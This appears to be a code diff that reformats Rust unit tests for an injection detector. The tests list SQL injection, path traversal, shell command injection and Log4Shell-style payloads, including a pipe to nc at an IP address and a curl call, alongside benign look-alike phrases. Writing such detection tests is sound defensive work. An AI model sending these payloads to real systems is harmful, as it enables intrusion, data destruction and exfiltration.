@@ -119,15 +119,25 @@ mod tests {
     #[test]
     fn p12_attacks_in_free_text_are_recognised() {
         for text in [
-            "' OR 1=1 --", "x' UNION/**/SELECT password FROM users--", "1; DROP TABLE users", "admin'--", "1 and sleep(5)=0",
-            "1 ORDER BY 10--", "%27%20or%20%271%27%3D%271", "'; exec xp_cmdshell('dir')",
+            "' OR 1=1 --",
+            "x' UNION/**/SELECT password FROM users--",
+            "1; DROP TABLE users",
+            "admin'--",
+            "1 and sleep(5)=0",
+            "1 ORDER BY 10--",
+            "%27%20or%20%271%27%3D%271",
+            "'; exec xp_cmdshell('dir')",
         ] {
             assert_eq!(signal(text), [Signal::SqlInjection], "{text}");
         }
-        for text in ["../../../../etc/hosts", r"..\..\..\windows\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fx", "file:///etc/passwd"] {
+        for text in
+            ["../../../../etc/hosts", r"..\..\..\windows\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fx", "file:///etc/passwd"]
+        {
             assert_eq!(signal(text), [Signal::PathTraversal], "{text}");
         }
-        for text in ["x; cat notes.txt", "a | nc 10.0.0.1 99", "$(whoami)", "`id`", "() { :;}; echo x", "x && curl http://a/b"] {
+        for text in
+            ["x; cat notes.txt", "a | nc 10.0.0.1 99", "$(whoami)", "`id`", "() { :;}; echo x", "x && curl http://a/b"]
+        {
             assert_eq!(signal(text), [Signal::CommandInjection], "{text}");
         }
         assert_eq!(signal("${jndi:ldap://a/b}"), [Signal::TemplateInjection]);
@@ -139,9 +149,20 @@ mod tests {
     #[test]
     fn p12_honest_text_is_silent() {
         for text in [
-            "select a seat from the list", "it's 5 or 6 o'clock", "the union will select a leader", "drop the table off at 5; then call me",
-            "import x from '../../lib'", "npm install && npm test", "order by tomorrow and I'll update you", "R&D; sales", "time.sleep(5)",
-            "is it a cat | dog?", "AC/DC and/or ABBA", "\"yes\" or \"no\"?", "1 or 2?", "see https://a.b/c?d=e&f=g#h",
+            "select a seat from the list",
+            "it's 5 or 6 o'clock",
+            "the union will select a leader",
+            "drop the table off at 5; then call me",
+            "import x from '../../lib'",
+            "npm install && npm test",
+            "order by tomorrow and I'll update you",
+            "R&D; sales",
+            "time.sleep(5)",
+            "is it a cat | dog?",
+            "AC/DC and/or ABBA",
+            "\"yes\" or \"no\"?",
+            "1 or 2?",
+            "see https://a.b/c?d=e&f=g#h",
         ] {
             assert_eq!(signal(text), [], "{text}");
         }
